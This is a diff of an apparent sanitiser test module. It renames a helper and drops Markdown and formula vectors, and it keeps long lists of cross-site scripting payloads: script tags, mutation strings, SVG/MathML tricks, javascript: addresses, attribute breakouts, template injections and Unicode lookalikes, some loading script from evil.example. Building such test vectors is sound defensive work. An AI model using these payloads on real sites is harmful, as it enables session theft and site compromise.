@@ -4,11 +4,11 @@ trusted it. `xss` and `https://evil.example` mark what got through."""
 from __future__ import annotations
 
 
-def _lines(text: str) -> list[str]:
+def lines(text: str) -> list[str]:
     return [line for line in text.strip("\n").split("\n") if line]
 
 
-ELEMENTS = _lines("""
+ELEMENTS = lines("""
 <script>xss()</script>
 <ScRiPt>xss()</sCrIpT>
 <script src=https://evil.example/x.js></script>
@@ -88,7 +88,7 @@ ELEMENTS = _lines("""
 """)
 
 #: Read one way by a sanitiser, another way by the browser that gets its output.
-MUTATIONS = _lines("""
+MUTATIONS = lines("""
 <noscript><p title="</noscript><img src=x onerror=xss()>">
 <noembed><p title="</noembed><img src=x onerror=xss()>">
 <noframes><p title="</noframes><img src=x onerror=xss()>">
@@ -124,7 +124,7 @@ MUTATIONS = _lines("""
 """)
 
 #: HTML that is no HTML, inside what is no HTML.
-NAMESPACES = _lines("""
+NAMESPACES = lines("""
 <svg onload=xss()>
 <svg/onload=xss()>
 <svg><script>xss()</script></svg>
@@ -167,7 +167,7 @@ NAMESPACES = _lines("""
 <math><msrow><mn><script>xss()</script></mn></math>
 """)
 
-ADDRESSES = _lines("""
+ADDRESSES = lines("""
 javascript:xss()
 JaVaScRiPt:xss()
 javascript&colon;xss()
@@ -204,7 +204,7 @@ filesystem:https://evil.example/x
 https:evil.example
 """)
 
-BREAKOUTS = _lines("""
+BREAKOUTS = lines("""
 "><script>xss()</script>
 '><script>xss()</script>
 "><img src=x onerror=xss()>
@@ -239,7 +239,7 @@ BREAKOUTS = _lines("""
 """)
 
 #: For whoever evaluates words as a template.
-TEMPLATES = _lines("""
+TEMPLATES = lines("""
 {{ request.user.password }}
 {{7*7}}{{constructor.constructor('xss()')()}}
 {% load static %}{% include "admin/base.html" %}
@@ -255,7 +255,7 @@ $(xss) `xss` $((1))
 """)
 
 #: Letters that fold, vanish, turn around or look like others.
-LETTERS = _lines(
+LETTERS = lines(
     """
 \uff1cscript\uff1exss()\uff1c/script\uff1e
 \u2039script\u203axss()\u2039/script\u203a
@@ -279,55 +279,4 @@ LETTERS = _lines(
 """.replace("\ud83d\udc4b", "\U0001f44b<img src=x onerror=xss()>")
 )
 
-#: What only means something to Markdown and to formulas; `{}` takes an address or an element.
-MARKDOWN = _lines(r"""
-[x]({})
-[x](<{}>)
-[x]({} "title")
-![x]({})
-<{}>
-[x]: {}
-[{}](https://example.org)
-[x](https://example.org "{}")
-[x](https://example.org?{})
-`{}`
-**{}**
-||{}||
-- [ ] {}
-- [x]({})
-> {}
-# {}
-@{}
-@alice{}
-$\href{{{}}}{{x}}$
-$\url{{{}}}$
-$\text{{{}}}$
-$\mbox{{{}}}$
-$\class{{{}}}{{x}}$
-$\style{{{}}}{{x}}$
-$\color{{{}}}{{x}}$
-$\operatorname{{{}}}$
-$\begin{{{}}}x\end{{{}}}$
-$\html{{{}}}$
-$$ {} $$
-https://example.org/{}
-https://example.org"{}
-www.example.org{}
-""")
-CODE = ["```{}\nx\n```", "```html\n{}\n```", "~~~ {}\nx", "| {} |\n|-|\n| {} |", "[x]\n\n[x]: {}"]
-
 PLAIN = ELEMENTS + MUTATIONS + NAMESPACES + ADDRESSES + BREAKOUTS + TEMPLATES + LETTERS
-
-#: What a Markdown vector is filled with: every address, and elements of every kind.
-_FILLINGS = [
-    *ADDRESSES,
-    ELEMENTS[0],
-    ELEMENTS[10],
-    *MUTATIONS[::6],
-    *NAMESPACES[::6],
-    *BREAKOUTS[:8],
-]
-
-
-def markdown_vectors() -> list[str]:
-    return [shape.format(filling, filling) for shape in MARKDOWN + CODE for filling in _FILLINGS]
